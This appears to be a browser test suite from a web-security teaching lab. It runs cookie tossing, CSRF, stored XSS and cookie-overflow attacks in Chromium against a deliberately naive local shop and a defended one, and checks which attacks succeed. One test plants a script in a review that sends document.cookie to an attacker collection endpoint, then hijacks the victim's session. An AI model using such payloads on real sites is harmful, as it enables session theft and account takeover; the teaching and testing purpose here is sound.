"""The attacks whose point is the browser, in a real Chromium, on naive and on defended shops."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from workshop.naive import POLICIES
from workshop.runner.catalogue import find
from workshop.runner.loading import load, module_from
from workshop.shop.jar import Jar, Sending
from workshop.shop.policy import SECURE, Policy
from workshop.shop.serving import Shop, open_session_shop

pytestmark = pytest.mark.browser

PATIENCE_S = 5.0


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """One person's browser."""
    context = browser.new_context()
    yield context
    context.close()


def home(shop: Shop, path: str = "/") -> str:
    return f"http://shop.localhost:{shop.port}{path}"


def log_in(shop: Shop, page: Page, name: str = "alice") -> None:
    """By the form, as a person does."""
    page.goto(home(shop))
    page.locator("input[name=username]").first.fill(name)
    password = page.locator("input[name=password]").first
    password.fill(shop.accounts.passwords[name])
    with page.expect_navigation():
        password.press("Enter")


def cart(shop: Shop, page: Page) -> dict[str, int]:
    """What the shop says that this browser's cart holds."""
    page.goto(home(shop, "/cart"))
    items: dict[str, int] = json.loads(page.locator("body").inner_text().strip())["items"]
    return items


def within(found: Callable[[], bool]) -> bool:
    """Whether something came to be, within a few seconds."""
    until = time.monotonic() + PATIENCE_S
    while time.monotonic() < until:
        if found():
            return True
        time.sleep(0.02)
    return False


@pytest.mark.parametrize(("policy", "taken"), [(POLICIES["fixation"], True), (SECURE, False)])
def test_a_tossed_cookie(context: BrowserContext, policy: Policy, taken: bool) -> None:
    """Chromium lets evil.shop.localhost set shop.localhost's cookie, unless it is __Host-."""
    name = policy.set_cookie("x").partition("=")[0]
    with open_session_shop(policy) as shop:
        attacker = shop.browser("mallory")
        attacker.post("/cart", {"item": "tea", "quantity": 1})
        chosen = attacker.holds() or ""
        page = context.new_page()
        page.goto(shop.evil(f"/toss?name={name}&value={chosen}", below=True))
        kept = any(cookie["name"] == name for cookie in context.cookies(home(shop)))
        log_in(shop, page)
        assert kept is taken
        assert attacker.me() == ("alice" if taken else None)


@pytest.mark.parametrize(("policy", "ordered"), [(POLICIES["csrf"], True), (SECURE, False)])
def test_a_form_on_another_site(context: BrowserContext, policy: Policy, ordered: bool) -> None:
    """A page on evil.localhost posts a form by itself; only the naive shop takes the order."""
    with open_session_shop(policy) as shop:
        page = context.new_page()
        log_in(shop, page)
        other = context.new_page()
        other.goto(shop.evil("/csrf"))
        other.wait_for_url("**/shop.localhost**" if ordered else "**/cart")
        assert cart(shop, page).get("tea") == (99 if ordered else None)


def review(shop: Shop, context: BrowserContext, markup: str) -> None:
    """Mallory leaves a review."""
    page = context.new_page()
    page.goto(home(shop, "/reviews"))
    page.locator("input[name=text]").fill(markup)
    with page.expect_navigation():
        page.get_by_role("button").click()
    page.close()


@pytest.mark.parametrize(("policy", "stolen"), [(POLICIES["xss-theft"], True), (SECURE, False)])
def test_a_script_that_steals(
    browser: Browser, context: BrowserContext, policy: Policy, stolen: bool
) -> None:
    """A script in a review sends document.cookie away; the defended page shows it as text."""
    with open_session_shop(policy) as shop:
        page = context.new_page()
        log_in(shop, page)
        away = shop.evil("/collect?c=")
        mallory = browser.new_context()
        review(shop, mallory, f"<script>fetch('{away}'+escape(document.cookie))</script>")
        page.goto(home(shop, "/reviews"))
        if stolen:
            # Mallory's own browser has run it too, and had no cookie to send.
            assert within(lambda: any(shop.loot.stolen))
            name, _, value = next(filter(None, shop.loot.stolen)).partition("=")
            thief = shop.browser("mallory")
            thief.plant(name, value)
            assert thief.me() == "alice"
        else:
            assert page.locator("script").count() == 0
            assert "<script>" in page.locator("li").inner_text()
            assert not any(shop.loot.stolen)
        mallory.close()


@pytest.mark.parametrize(("policy", "ordered"), [(POLICIES["xss-riding"], True), (SECURE, False)])
def test_a_script_that_rides(
    browser: Browser, context: BrowserContext, policy: Policy, ordered: bool
) -> None:
    """HttpOnly and SameSite are both there, and a script on the page orders all the same."""
    from workshop.attacks.xss_riding import MARKUP

    with open_session_shop(policy) as shop:
        page = context.new_page()
        log_in(shop, page)
        mallory = browser.new_context()
        review(shop, mallory, MARKUP)
        if ordered:
            with page.expect_response("**/cart"):
                page.goto(home(shop, "/reviews"))
        else:
            page.goto(home(shop, "/reviews"))
        assert cart(shop, page).get("tea") == (99 if ordered else None)
        mallory.close()


@pytest.mark.parametrize(("which", "is_lost"), [("start", True), ("reference", False)])
def test_a_cart_that_is_too_large(context: BrowserContext, which: str, is_lost: bool) -> None:
    """Chromium drops the cookie and keeps the older one, and neither it nor the shop says so."""
    lab = find("9")
    attack = module_from(lab.file("attack.py"))
    with attack.open_shop(load(lab.file(which, "policy.py"))) as shop:
        page = context.new_page()
        page.goto(home(shop, "/cart"))
        answered = page.evaluate(
            """async () => {
                let good = 0
                for (let i = 0; i < 60; i++) {
                    const item = `item ${i} `.padEnd(60, "x")
                    const answer = await fetch("/cart", {method: "POST", body:
                        JSON.stringify({item, quantity: 1}),
                        headers: {"Content-Type": "application/json"}})
                    if (answer.status !== 200) break
                    good++
                }
                return good
            }"""
        )
        kept = len(cart(shop, page))
        assert (kept < answered) is is_lost


SITUATIONS = {
    "session=1; Path=/": "bare",
    "session=1; Path=/; SameSite=Strict": "strict",
    "session=1; Path=/; Secure; SameSite=None": "none",
    "session=1; Path=/; Domain=shop.localhost; SameSite=Lax": "domain",
    "__Host-session=1; Path=/; Secure; HttpOnly; SameSite=Lax": "host",
    "__Host-session=1; Path=/cart; Secure": "host with a path",
    "session=1; Path=/; SameSite=None": "none without Secure",
    "session=1; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT": "ended by Expires",
    "session=1; Path=/; Max-Age=99; Expires=Thu, 01 Jan 1970 00:00:00 GMT": "Max-Age first",
    "session=1; Path=/; Max-Age=x; Expires=soon": "neither can be read",
}


@pytest.mark.parametrize("text", SITUATIONS, ids=SITUATIONS.values())
def test_the_model_of_a_jar_is_as_chromium(context: BrowserContext, text: str) -> None:
    """Labs judge by a model of the rules; here is what it is a model of."""
    seen: dict[str, str] = {}

    def note(page: str, header: str) -> None:
        seen[page] = header

    with open_echo(text, note) as shop:
        page = context.new_page()
        page.goto(home(shop, "/set"))
        seen["script"] = page.evaluate("document.cookie")
        page.goto(home(shop, "/same"))
        page.goto(f"http://evil.shop.localhost:{shop.port}/below")
        for path in ("link", "form"):
            page.goto(f"http://evil.localhost:{shop.port}/from-{path}")
            with page.expect_navigation():
                page.locator("#go").click()
    jar = Jar()
    jar.keep(text, "shop.localhost")
    evil = "evil.localhost"
    expected = {
        "script": jar.document_cookie("shop.localhost", "/set"),
        "/same": jar.header(Sending("shop.localhost", "/same")),
        "/below": jar.header(Sending("evil.shop.localhost", "/below")),
        "/link": jar.header(Sending("shop.localhost", "/link", "GET", evil)),
        "/form": jar.header(Sending("shop.localhost", "/form", "POST", evil)),
    }
    assert {key: seen[key] for key in expected} == expected


TOSSED = {
    "beside the host-only one": (
        "session=own; Path=/",
        "session=EVIL; Path=/; Domain=shop.localhost",
    ),
    "over a Domain cookie": (
        "session=own; Path=/; Domain=shop.localhost",
        "session=EVIL; Path=/; Domain=shop.localhost",
    ),
    "with a longer path": (
        "session=own; Path=/",
        "session=EVIL; Path=/same; Domain=shop.localhost",
    ),
    "__Host- in small letters": (
        "__Host-session=own; Path=/; Secure",
        "__host-session=EVIL; Path=/; Secure; Domain=shop.localhost",
    ),
    "__Secure- without Secure": (
        "session=own; Path=/",
        "__Secure-session=EVIL; Path=/; Domain=shop.localhost",
    ),
    "__secure- with Secure": (
        "session=own; Path=/",
        "__secure-session=EVIL; Path=/; Secure; Domain=shop.localhost",
    ),
}


@pytest.mark.parametrize(("own", "tossed"), TOSSED.values(), ids=TOSSED)
def test_the_model_of_a_tossed_cookie_is_as_chromium(
    context: BrowserContext, own: str, tossed: str
) -> None:
    """A cookie of a host below stands beside the shop's own, replaces it, or is dropped."""
    seen: dict[str, str] = {}
    with open_echo(own, seen.__setitem__, tossed) as shop:
        page = context.new_page()
        page.goto(home(shop, "/set"))
        page.goto(f"http://evil.shop.localhost:{shop.port}/toss")
        page.goto(home(shop, "/same"))
    jar = Jar()
    jar.keep(own, "shop.localhost")
    jar.keep(tossed, "evil.shop.localhost")
    assert jar.header(Sending("shop.localhost", "/same")) == seen["/same"]


def open_echo(text: str, note: Callable[[str, str], None], tossed: str = "") -> Shop:
    """A site that sets one cookie, another at /toss, and notes which requests bring them back."""
    from workshop.shop.clock import LabClock

    def app(environ: dict[str, object], start_response: Callable[..., object]) -> list[bytes]:
        path = str(environ["PATH_INFO"])
        note(path, str(environ.get("HTTP_COOKIE", "")))
        headers = [("Content-Type", "text/html")]
        if path == "/set":
            headers.append(("Set-Cookie", text))
        if path == "/toss":
            headers.append(("Set-Cookie", tossed))
        start_response("200 OK", headers)
        target = f"http://shop.localhost:{shop.port}"
        link = f'<a id="go" href="{target}/link">go</a>'
        form = f'<form method="post" action="{target}/form"><button id="go">go</button></form>'
        body = {"/from-link": link, "/from-form": form}.get(path, "fine")
        return [f"<!doctype html><body>{body}".encode()]

    shop = Shop(SECURE, LabClock())
    shop.serve(app, "127.0.0.1", 0)
    return shop
